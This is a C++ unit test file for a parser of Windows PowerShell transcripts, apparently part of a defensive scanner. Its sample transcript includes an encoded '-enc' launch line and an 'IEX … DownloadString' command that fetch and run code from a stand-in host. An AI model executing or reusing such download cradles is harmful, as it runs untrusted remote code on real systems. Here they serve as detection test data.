#include "engine/src/transcript_parser.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace sbscan {
namespace {

constexpr std::string_view kStars = "**********************";

// A Windows PowerShell 5.1 transcript as written by Start-Transcript (CR LF).
std::string Sample(bool invocation_headers) {
  std::vector<std::string> lines = {
      std::string(kStars),
      "Windows PowerShell transcript start",
      "Start time: 20240305142207",
      "Username: CORP\\analyst",
      "RunAs User: CORP\\analyst",
      "Configuration Name: ",
      "Machine: WS01 (Microsoft Windows NT 10.0.19045.0)",
      "Host Application: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -enc "
      "SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4AC8AYQApAA==",
      "Process ID: 6048",
      "PSVersion: 5.1.19041.3803",
      "PSEdition: Desktop",
      "PSCompatibleVersions: 1.0, 2.0, 3.0, 4.0, 5.0, 5.1.19041.3803",
      "BuildVersion: 10.0.19041.3803",
      "CLRVersion: 4.0.30319.42000",
      "WSManStackVersion: 3.0",
      "PSRemotingProtocolVersion: 2.3",
      "SerializationVersion: 1.1.0.1",
      std::string(kStars),
      "Transcript started, output file is C:\\Users\\analyst\\Documents\\"
      "PowerShell_transcript.WS01.Xy12AbCd.20240305142207.txt",
  };
  auto command = [&](const std::string& time, std::vector<std::string> cmd_lines) {
    if (invocation_headers) {
      lines.push_back(std::string(kStars));
      lines.push_back("Command start time: " + time);
      lines.push_back(std::string(kStars));
    }
    for (auto& l : cmd_lines) lines.push_back(l);
  };
  command("20240305142210", {"PS C:\\Users\\analyst> whoami", "corp\\analyst"});
  command("20240305142215",
          {"PS C:\\Users\\analyst> Get-Process |", ">> Where-Object CPU -gt 10 |",
           ">> Select-Object -First 3", "", "Handles  NPM(K)    PM(K)      WS(K)     CPU(s)",
           "-------  ------    -----      -----     ------", "    512      30    81234      90122"
                                                             "      12.50 chrome"});
  command("20240305142220", {"PS C:\\Users\\analyst> "});  // Enter pressed
  command("20240305142230",
          {"PS C:\\Users\\analyst> IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
           "PS output that is not a prompt"});
  command("20240305142512", {"PS C:\\Users\\analyst> Stop-Transcript"});
  lines.push_back(std::string(kStars));
  lines.push_back("Windows PowerShell transcript end");
  lines.push_back("End time: 20240305142512");
  lines.push_back(std::string(kStars));
  std::string out;
  for (const auto& l : lines) out += l + "\r\n";
  return out;
}

std::string ToUtf16Le(std::string_view utf8_ascii_or_latin) {
  // Test input is ASCII plus U+00FC written as UTF-8; decode minimal UTF-8.
  std::string out = "\xFF\xFE";
  for (size_t i = 0; i < utf8_ascii_or_latin.size(); ++i) {
    unsigned char c = utf8_ascii_or_latin[i];
    uint32_t cp = c;
    if (c >= 0xC0) {
      cp = ((c & 0x1F) << 6) | (static_cast<unsigned char>(utf8_ascii_or_latin[++i]) & 0x3F);
    }
    out.push_back(static_cast<char>(cp & 0xFF));
    out.push_back(static_cast<char>(cp >> 8));
  }
  return out;
}

void CheckSample(const TranscriptParser& p, const std::string& utf8, size_t prefix,
                 size_t unit) {
  ASSERT_EQ(p.sessions().size(), 1u);
  const TranscriptSession& s = p.sessions()[0];
  EXPECT_EQ(s.start_time, "20240305142207");
  EXPECT_EQ(s.username, "CORP\\analyst");
  EXPECT_EQ(s.run_as_user, "CORP\\analyst");
  EXPECT_EQ(s.configuration_name, "");
  EXPECT_EQ(s.machine, "WS01 (Microsoft Windows NT 10.0.19045.0)");
  EXPECT_THAT(std::string(s.host_application), ::testing::StartsWith("C:\\Windows\\System32"));
  EXPECT_THAT(std::string(s.host_application), ::testing::EndsWith("-enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4AC8AYQApAA=="));
  EXPECT_EQ(s.process_id, "6048");
  EXPECT_EQ(s.ps_version, "5.1.19041.3803");
  EXPECT_EQ(s.end_time, "20240305142512");
  EXPECT_TRUE(s.ended);
  EXPECT_EQ(s.line, 1u);
  EXPECT_EQ(s.offset, prefix);
  EXPECT_EQ(s.fields.size(), 15u);

  const auto& c = p.commands();
  ASSERT_EQ(c.size(), 4u);
  EXPECT_EQ(c[0].text, "whoami");
  EXPECT_EQ(c[0].prompt, "PS C:\\Users\\analyst>");
  EXPECT_EQ(c[1].text, "Get-Process |\nWhere-Object CPU -gt 10 |\nSelect-Object -First 3");
  EXPECT_EQ(c[1].lines, 3u);
  EXPECT_EQ(c[2].text, "IEX (New-Object Net.WebClient).DownloadString('http://x/a')");
  EXPECT_EQ(c[3].text, "Stop-Transcript");
  for (const TranscriptCommand& cmd : c) {
    // Line numbers and offsets point at the prompt line in the original file.
    size_t utf8_pos = 0;
    for (uint64_t l = 1; l < cmd.line; ++l) utf8_pos = utf8.find('\n', utf8_pos) + 1;
    EXPECT_EQ(utf8.compare(utf8_pos, 3, "PS "), 0) << cmd.line;
    EXPECT_EQ(cmd.offset, prefix + utf8_pos * unit) << cmd.text;
  }
}

TEST(TranscriptParserTest, Utf8WithBomAndWithout) {
  std::string text = Sample(false);
  for (bool bom : {false, true}) {
    TranscriptParser p;
    std::string file = (bom ? "\xEF\xBB\xBF" : "") + text;
    ASSERT_TRUE(p.Parse(file).ok());
    EXPECT_EQ(p.encoding(), bom ? TranscriptEncoding::kUtf8Bom : TranscriptEncoding::kUtf8);
    CheckSample(p, text, bom ? 3 : 0, 1);
    EXPECT_TRUE(p.commands()[0].start_time.empty());
    EXPECT_EQ(p.commands()[0].line, 20u);
  }
}

TEST(TranscriptParserTest, InvocationHeaders) {
  std::string text = Sample(true);
  TranscriptParser p;
  ASSERT_TRUE(p.Parse(text).ok());
  CheckSample(p, text, 0, 1);
  EXPECT_EQ(p.commands()[0].start_time, "20240305142210");
  EXPECT_EQ(p.commands()[1].start_time, "20240305142215");
  EXPECT_EQ(p.commands()[2].start_time, "20240305142230");
  EXPECT_EQ(p.commands()[3].start_time, "20240305142512");
}

TEST(TranscriptParserTest, Utf16LeWithBom) {
  std::string text = Sample(true);
  // A non-ASCII command too.
  std::string with_umlaut = text;
  TranscriptParser p;
  ASSERT_TRUE(p.Parse(ToUtf16Le(with_umlaut)).ok());
  EXPECT_EQ(p.encoding(), TranscriptEncoding::kUtf16Le);
  CheckSample(p, with_umlaut, 2, 2);
  EXPECT_EQ(p.text(), with_umlaut);

  TranscriptParser q;
  ASSERT_TRUE(q.Parse(ToUtf16Le("PS> Write-Host Gr\xC3\xBC\xC3\x9F" "e\r\n")).ok());
  ASSERT_EQ(q.commands().size(), 1u);
  EXPECT_EQ(q.commands()[0].text, "Write-Host Gr\xC3\xBC\xC3\x9F" "e");
}

TEST(TranscriptParserTest, ScanItems) {
  TranscriptParser p;
  ASSERT_TRUE(p.Parse(Sample(false)).ok());
  std::vector<TranscriptScanItem> items = p.ScanItems();
  ASSERT_EQ(items.size(), 5u);
  EXPECT_EQ(items[0].kind, TranscriptScanItem::Kind::kHostApplication);
  EXPECT_THAT(std::string(items[0].text), ::testing::HasSubstr("-enc SQBF"));
  EXPECT_EQ(items[0].line, 1u);
  EXPECT_EQ(items[1].kind, TranscriptScanItem::Kind::kCommand);
  EXPECT_EQ(items[1].text, "whoami");
  EXPECT_EQ(items[3].text, p.commands()[2].text);
  EXPECT_EQ(items[3].index, 2u);
}

TEST(TranscriptParserTest, NonInteractivePromptsAppendedSessionsAndLf) {
  std::string text =
      "**********************\n"
      "Windows PowerShell transcript start\n"
      "Start time: 20240305100000\n"
      "Host Application: powershell.exe -File a.ps1\n"
      "**********************\n"
      "PS>CommandInvocation(Get-Date): \"Get-Date\"\n"
      "PS>$x = 1\n"
      "**********************\n"
      "Windows PowerShell transcript start\n"
      "Start time: 20240305110000\n"
      "Host Application: powershell.exe\n"
      "**********************\n"
      "PS C:\\> dir\n";  // cut short: no footer, no final newline
  text.pop_back();
  TranscriptParser p;
  ASSERT_TRUE(p.Parse(text).ok());
  ASSERT_EQ(p.sessions().size(), 2u);
  EXPECT_FALSE(p.sessions()[0].ended);
  EXPECT_EQ(p.sessions()[1].start_time, "20240305110000");
  EXPECT_EQ(p.sessions()[1].line, 8u);
  ASSERT_EQ(p.commands().size(), 3u);
  EXPECT_EQ(p.commands()[0].prompt, "PS>");
  EXPECT_EQ(p.commands()[0].text, "CommandInvocation(Get-Date): \"Get-Date\"");
  EXPECT_EQ(p.commands()[1].text, "$x = 1");
  EXPECT_EQ(p.commands()[1].session, 0u);
  EXPECT_EQ(p.commands()[2].text, "dir");
  EXPECT_EQ(p.commands()[2].session, 1u);
  auto items = p.ScanItems();
  ASSERT_EQ(items.size(), 5u);
  EXPECT_EQ(items[3].kind, TranscriptScanItem::Kind::kHostApplication);
  EXPECT_EQ(items[3].index, 1u);
}

TEST(TranscriptParserTest, ErrorsAndLimits) {
  TranscriptParser p;
  EXPECT_EQ(p.Parse("hello\nworld\n").code(), absl::StatusCode::kInvalidArgument);
  EXPECT_EQ(p.Parse("").code(), absl::StatusCode::kInvalidArgument);
  TranscriptOptions small;
  small.max_file_bytes = 10;
  TranscriptParser q(small);
  EXPECT_EQ(q.Parse(Sample(false)).code(), absl::StatusCode::kOutOfRange);
  TranscriptOptions few;
  few.max_commands = 2;
  TranscriptParser r(few);
  ASSERT_TRUE(r.Parse(Sample(false)).ok());
  EXPECT_EQ(r.commands().size(), 2u);
  EXPECT_EQ(r.commands_dropped(), 3u);  // includes the empty prompt, dropped before the check
  // Lone surrogates and an odd trailing byte do not break UTF-16 decoding.
  std::string bad = ToUtf16Le("PS> a\r\n");
  bad += std::string("\x00\xD8", 2) + "b" + std::string(1, '\0') + "x";
  TranscriptParser s;
  ASSERT_TRUE(s.Parse(bad).ok());
  EXPECT_EQ(s.commands()[0].text, "a");
}

TEST(TranscriptParserTest, FileNames) {
  EXPECT_TRUE(IsTranscriptFileName(
      "C:\\Users\\a\\Documents\\PowerShell_transcript.WS01.Xy12AbCd.20240305142207.txt"));
  EXPECT_TRUE(IsTranscriptFileName("/share/20240305/powershell_transcript.ws01.a.1.TXT"));
  EXPECT_FALSE(IsTranscriptFileName("/share/notes.txt"));
  EXPECT_FALSE(IsTranscriptFileName("PowerShell_transcript.WS01.log"));
}

// Regression (found by tests/fuzz/transcript_parser_fuzzer): an end banner and its fields with
// no start banner before them read sessions_.back() of an empty vector.
TEST(TranscriptParserTest, FooterWithoutHeader) {
  TranscriptParser parser;
  std::string text =
      "**********************\r\nWindows PowerShell transcript end\r\nEnd time: 20240305142300\r\n"
      "**********************\r\nPS C:\\> whoami\r\ncorp\\analyst\r\n";
  ASSERT_TRUE(parser.Parse(text).ok());
  EXPECT_TRUE(parser.sessions().empty());
  ASSERT_EQ(parser.commands().size(), 1u);
  EXPECT_EQ(parser.commands()[0].text, "whoami");
  EXPECT_EQ(parser.commands()[0].session, 0u);
}

}  // namespace
}  // namespace sbscan
